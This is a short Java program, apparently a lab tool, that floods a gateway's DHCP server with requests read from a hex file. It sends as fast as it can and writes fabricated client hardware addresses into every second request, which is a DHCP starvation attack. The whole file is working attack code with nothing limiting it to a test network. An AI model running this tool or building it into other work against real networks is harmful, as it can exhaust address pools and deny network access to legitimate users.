package io.jarrah.cc;

import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HexFormat;

/**
 * A guest that sends DHCP requests as fast as it can, every second one in the name of somebody who does not exist.
 * Arguments: its own address, the gateway's, its MAC address, how many, and a file with a request in hexadecimal.
 */
public final class LabFlood {
    private static final int CHADDR = 28;

    private LabFlood() {}

    public static void main(String[] args) throws Exception {
        byte[] request =
                HexFormat.of().parseHex(Files.readString(Path.of(args[4])).strip());
        byte[] own = HexFormat.ofDelimiter(":").parseHex(args[2]);
        ByteBuffer message = ByteBuffer.wrap(request);
        DatagramPacket packet = new DatagramPacket(request, request.length, new InetSocketAddress(args[1], 67));
        int count = Integer.parseInt(args[3]);
        try (DatagramSocket socket = new DatagramSocket(68, InetAddress.getByName(args[0]))) {
            for (int i = 0; i < count; i++) {
                if (i % 2 == 0) {
                    message.put(CHADDR, own);
                } else {
                    message.putInt(CHADDR + 2, i);
                }
                socket.send(packet);
            }
        }
    }
}
